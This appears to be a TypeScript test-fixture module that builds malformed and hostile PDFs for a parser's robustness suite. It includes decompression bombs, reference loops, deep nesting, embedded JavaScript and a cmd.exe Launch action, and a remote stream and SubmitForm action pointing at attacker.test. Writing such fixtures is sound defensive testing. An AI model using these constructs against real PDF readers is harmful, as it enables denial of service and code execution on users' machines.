import { deflateSync } from 'node:zlib'
import { concat, type HostileCase, latin1, PROSE } from './case.ts'

/** A pdf of the given objects (number → body), with a correct cross-reference table and any trailer. */
function pdfOf(objects: Record<number, string | Buffer>, trailer = '/Root 1 0 R', version = '1.7'): Buffer {
  const parts: Buffer[] = [latin1(`%PDF-${version}\n`)]
  const offsets = new Map<number, number>()
  let length = parts[0]!.length
  const push = (part: Buffer) => {
    parts.push(part)
    length += part.length
  }
  for (const [number, content] of Object.entries(objects)) {
    offsets.set(Number(number), length)
    push(concat(`${number} 0 obj\n`, content, '\nendobj\n'))
  }
  const start = length
  const size = Math.max(...offsets.keys()) + 1
  const rows = Array.from({ length: size }, (_, number) => {
    const offset = offsets.get(number)
    return offset === undefined ? '0000000000 65535 f \n' : `${String(offset).padStart(10, '0')} 00000 n \n`
  })
  push(latin1(`xref\n0 ${size}\n${rows.join('')}trailer\n<</Size ${size} ${trailer}>>\nstartxref\n${start}\n%%EOF\n`))
  return Buffer.concat(parts)
}

function stream(data: Uint8Array | string, dictionary = ''): Buffer {
  const bytes = typeof data === 'string' ? latin1(data) : data
  return concat(`<<${dictionary}/Length ${bytes.length}>>stream\n`, bytes, '\nendstream')
}

const FONT = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'
const SHOW = `BT /F1 12 Tf 50 700 Td (${PROSE.replace('\n', '')}) Tj ET`

function simple(overrides: Record<number, string | Buffer> = {}, trailer?: string): Buffer {
  return pdfOf(
    {
      1: '<</Type/Catalog/Pages 2 0 R>>',
      2: '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      3: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>',
      4: stream(SHOW),
      5: FONT,
      ...overrides,
    },
    trailer,
  )
}

const page = (resources: string, extra = '') =>
  `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>${resources}>>${extra}>>`

function file(name: string, bytes: Uint8Array, expect: HostileCase['expect'] = 'reject'): HostileCase {
  return { name: `${name}.pdf`, format: 'pdf', bytes, expect }
}

export function hostilePdfs(): HostileCase[] {
  return [...loops(), ...bombs(), ...actions(), ...images(), ...damage()]
}

function loops(): HostileCase[] {
  const looped = simple({}, '/Root 1 0 R /Prev 15')
  return [
    file(
      'previous-table-is-itself',
      Buffer.from(looped.toString('latin1').replace('/Prev 15', `/Prev ${looped.lastIndexOf('xref\n0')}`), 'latin1'),
      'either',
    ),
    file('kids-contain-parent', simple({ 2: '<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>' }), 'either'),
    file('kids-only-itself', simple({ 2: '<</Type/Pages/Kids[2 0 R]/Count 1>>' })),
    file('catalog-is-pages', simple({ 1: '<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 1>>' })),
    file(
      'form-draws-itself',
      simple({
        3: page('/XObject<</X 6 0 R>>'),
        4: stream(`${SHOW} /X Do`),
        6: stream('/X Do', '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>'),
      }),
      'either',
    ),
    file('length-refers-to-itself', simple({ 4: '<</Length 4 0 R>>stream\nBT ET\nendstream' })),
    file('contents-loop', simple({ 4: '[4 0 R 4 0 R]' })),
    file(
      'object-stream-loop',
      simple({ 6: stream('6 0 <</A 6 0 R>>', '/Type/ObjStm/N 1/First 4/Extends 6 0 R') }),
      'either',
    ),
  ]
}

function bombs(): HostileCase[] {
  const blanks = deflateSync(Buffer.alloc(90_000_000, 0x20), { level: 9 })
  let nested: Buffer = Buffer.alloc(40_000_000, 0x20)
  for (let layer = 0; layer < 4; layer++) nested = deflateSync(nested, { level: 9 })
  const filters = '/FlateDecode '.repeat(4)
  const kids = Array.from({ length: 3_000 }, () => '3 0 R').join(' ')
  return [
    file('flate-bomb', simple({ 4: stream(blanks, '/Filter/FlateDecode') })),
    file('flate-in-flate', simple({ 4: stream(nested, `/Filter[${filters}]`) })),
    file('a-million-pages', simple({ 2: '<</Type/Pages/Kids[3 0 R]/Count 1000000>>' }), 'either'),
    file('three-thousand-pages', simple({ 2: `<</Type/Pages/Kids[${kids}]/Count 3000>>` })),
    file('deep-arrays', simple({ 4: stream(`${'['.repeat(200_000)}${']'.repeat(200_000)}`) })),
    file('deep-dictionaries', simple({ 6: `${'<</A'.repeat(20_000)} 1${'>>'.repeat(20_000)}` }), 'either'),
    file('a-million-operators', simple({ 4: stream('q Q '.repeat(1_000_000)) })),
    file('negative-count', simple({ 2: '<</Type/Pages/Kids[3 0 R]/Count -5>>' }), 'either'),
    file('long-name', simple({ 6: `/${'N'.repeat(1_000_000)}` }), 'either'),
  ]
}

function actions(): HostileCase[] {
  const script = '/S/JavaScript/JS(app.alert\\(1\\))'
  return [
    file('open-script', simple({ 1: `<</Type/Catalog/Pages 2 0 R/OpenAction<<${script}>>>>` }), 'either'),
    file(
      'named-script',
      simple({ 1: `<</Type/Catalog/Pages 2 0 R/Names<</JavaScript<</Names[(a)<<${script}>>]>>>>>>` }),
    ),
    file('launch', simple({ 1: '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)>>>>' }), 'either'),
    file('remote-stream', simple({ 4: stream('', '/F(http://attacker.test/x)') })),
    file(
      'submits-form',
      simple({ 1: '<</Type/Catalog/Pages 2 0 R/AA<</WC<</S/SubmitForm/F(http://attacker.test)>>>>>>' }),
      'either',
    ),
  ]
}

function images(): HostileCase[] {
  const pixels = stream(
    Buffer.alloc(300, 0x7f),
    '/Type/XObject/Subtype/Image/Width 10/Height 10/BitsPerComponent 8/ColorSpace/DeviceRGB',
  )
  const huge = stream(
    'x',
    '/Type/XObject/Subtype/Image/Width 65535/Height 65535/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode',
  )
  const drawn = { 3: page('/XObject<</I 6 0 R>>'), 4: stream(`${SHOW} /I Do`) }
  return [
    file('image-beside-text', simple({ ...drawn, 6: pixels })),
    file('only-an-image', simple({ ...drawn, 4: stream('/I Do'), 6: pixels })),
    file('inline-image', simple({ 4: stream(`${SHOW} BI /W 2 /H 2 /CS /G /BPC 8 ID abcd EI`) })),
    file('image-claims-four-gigapixels', simple({ ...drawn, 6: huge })),
    file(
      'image-in-a-form',
      simple({
        3: page('/XObject<</X 7 0 R>>'),
        4: stream(`${SHOW} /X Do`),
        6: pixels,
        7: stream('/I Do', '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</I 6 0 R>>>>'),
      }),
    ),
  ]
}

function damage(): HostileCase[] {
  const good = simple()
  return [
    file('cut-in-half', good.subarray(0, good.length / 2), 'either'),
    file('header-only', latin1('%PDF-1.7\n')),
    file('no-pages', pdfOf({ 1: '<</Type/Catalog>>' })),
    file(
      'encrypted-with-nonsense',
      simple({ 6: '<</Filter/Standard/V 4/R 4/O(x)/U(y)/P -1/Length 128>>' }, '/Root 1 0 R/Encrypt 6 0 R'),
    ),
    file(
      'length-says-more',
      Buffer.from(good.toString('latin1').replace(/\/Length \d+/, '/Length 99999999'), 'latin1'),
      'either',
    ),
    file('html-before', concat('<html><script>alert(1)</script></html>\n'.repeat(30), good)),
    file(
      'random-behind-header',
      concat('%PDF-1.7\n', Buffer.from(Array.from({ length: 20_000 }, (_, at) => (at * 7919) & 255))),
    ),
    file('no-text', simple({ 4: stream('0 0 10 10 re f') })),
  ]
}
